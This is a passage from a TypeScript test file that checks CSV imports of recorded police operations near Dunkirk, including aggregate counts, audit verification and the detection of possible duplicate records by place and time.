                'tents', (SELECT sum(s.quantity) FROM observation_seizures s, ${live}
                            AND o.id = s.observation_id AND s.item = 'tent')) AS records`,
    )) as { facts: Record<string, number>; records: Record<string, number> }[];
    expect(counted.observations).toBeGreaterThanOrEqual(ROWS);
    expect(counted.crs).toBeGreaterThanOrEqual(ROWS / 2);
    expect(facts).toEqual(counted);

    const records = await importedRecords(detail.id);
    expect([...records.keys()].sort((a, b) => a - b)).toEqual(rows.map((_, index) => lineOf(index)));
    expect(records.get(lineOf(ROWS - 1))!.possibleDuplicateIds).toEqual([records.get(lineOf(0))!.id]);
    expect(records.get(lineOf(0))!.possibleDuplicateIds).toContain(records.get(lineOf(ROWS - 1))!.id);
    expect(records.get(lineOf(1_500))!.forces).toEqual([
      { unit: 'crs', vehicles: null, officers: null, identifiers: null },
      { unit: 'gm', vehicles: null, officers: null, identifiers: null },
    ]);
    expect(await ok(api.get<{ ok: boolean }>('/api/audit-events/verify'))).toMatchObject({ ok: true });
  });
});

describe('the possible duplicates of an import, found beside its transaction', () => {
  const word = uniqueWord('pairs');
  const ROWS = 1_200;
  /** One operation a day from 1 January 2001 (a period no other test writes), around Dunkirk. */
  const place = (index: number) => ({
    day: new Date(Date.UTC(2001, 0, 1 + index)),
    lat: 51.02 + (index % 40) * 0.001,
    lon: 2.25 + (index % 50) * 0.002,
  });
  const row = (index: number, sourceId = `P-${index}-${word}`, time = '07:30'): LegacyRow => {
    const { day, lat, lon } = place(index);
    return {
      'N° fiche': sourceId,
      Date: sheetDate(day),
      Heure: time,
      GPS: `${lat.toFixed(4)}, ${lon.toFixed(4)}`,
      Forces: 'CRS',
      'Personnes expulsées': String(index % 60),
      Interpellations: '0',
      Tentes: '',
      'Tentes détruites': '',
      'Sacs de couchage': '',
      Couvertures: '',
      Remarques: `Opération ${index} ${word}`,
    };
  };

  it('stores exactly the pairs the rule gives: new records among themselves, with older ones, and updated ones', async () => {
    // A first import: U1 where and when row 5 of the second file will be, U2 nowhere near.
    const earlier = [row(5, `P-U1-${word}`, '08:00'), row(ROWS + 400, `P-U2-${word}`)];
    const first = await checked(api, csvFile(legacySheet(earlier), 'earlier.csv'), legacyMapping());
    await ok(api.post<ImportRecord>(`/api/imports/${first.detail.id}/commit`, {}));
    const [u1] = (await api.dataSource.query(`SELECT id FROM observations WHERE source->>'sourceId' = $1`, [
      `P-U1-${word}`,
    ])) as { id: string }[];
    // A record typed in the console, where and when row 1,100 will be.
    const at1100 = place(1_100);
    const typed = await createObservation(api, {
      startedAt: `${at1100.day.toISOString().slice(0, 10)}T08:15:00+01:00`,
      endedAt: null,
      location: { type: 'Point', coordinates: [at1100.lon, at1100.lat] },
      siteId: null,
    });

    const rows = Array.from({ length: ROWS }, (_, index) => row(index));
    rows[11] = row(10, `P-copy-10-${word}`, '08:00'); // the same batch as row 10
    rows[ROWS - 1] = row(3, `P-copy-3-${word}`, '09:00'); // the second batch, row 3 in the first
    // U1 corrected (first batch): moved to where and when row 1,150 (second batch) is.
    rows.unshift(row(1_150, `P-U1-${word}`, '08:30'), earlier[1]!);
    const second = await checked(api, csvFile(legacySheet(rows), 'pairs.csv'), legacyMapping());
    expect(second.dryRun.summary).toEqual({ create: ROWS, update: 1, unchanged: 1, rejected: 0 });
    const record = await ok(api.post<ImportRecord>(`/api/imports/${second.detail.id}/commit`, {}));
    expect(record.result).toEqual({ created: ROWS, updated: 1, unchanged: 1, skipped: 0 });

    const ids = new Map(
      (
        (await api.dataSource.query(
          `SELECT source->>'sourceId' AS "sourceId", id FROM observations WHERE source->>'importId' = $1`,
          [second.detail.id],
        )) as { sourceId: string; id: string }[]
      ).map(({ sourceId, id }) => [sourceId, id]),
    );
    const id = (index: number) => ids.get(`P-${index}-${word}`)!;
    const pair = (a: string, b: string) => (a < b ? { a, b } : { a: b, b: a });
    const [{ expected, stored }] = (await api.dataSource.query(
      `WITH mine AS (
         SELECT id FROM observations
          WHERE deleted_at IS NULL AND (source->>'importId' = ANY($1) OR id = $2)),
       expected AS (
         SELECT DISTINCT least(o.id, d.id) AS a, greatest(o.id, d.id) AS b
           FROM observations o JOIN mine USING (id)
           JOIN observations d ON ${duplicateMatch('o', 'd', '$3::float8', '$4::int')}),
       stored AS (
         SELECT p.observation_a AS a, p.observation_b AS b FROM observation_duplicates p
          WHERE p.status = 'possible'
            AND (p.observation_a IN (SELECT id FROM mine) OR p.observation_b IN (SELECT id FROM mine)))
       SELECT (SELECT coalesce(json_agg(e ORDER BY e.a, e.b), '[]') FROM expected e) AS expected,
              (SELECT coalesce(json_agg(s ORDER BY s.a, s.b), '[]') FROM stored s) AS stored`,
      [
        [first.detail.id, second.detail.id],
        typed.id,
        DEFAULT_DUPLICATE_RULE.radiusM,
        DEFAULT_DUPLICATE_RULE.windowMinutes,
      ],
    )) as { expected: { a: string; b: string }[]; stored: { a: string; b: string }[] }[];
    expect(stored).toEqual(expected);
    // What the file was made to hold, and not what U1 was before its correction.
    expect(expected).toEqual(
      expect.arrayContaining([
        pair(id(10), ids.get(`P-copy-10-${word}`)!),
        pair(id(3), ids.get(`P-copy-3-${word}`)!),
        pair(id(1_100), typed.id),
        pair(id(1_150), u1!.id),
      ]),
    );
    expect(expected).not.toContainEqual(pair(id(5), u1!.id));
    expect(expected).toHaveLength(4);
  });
});
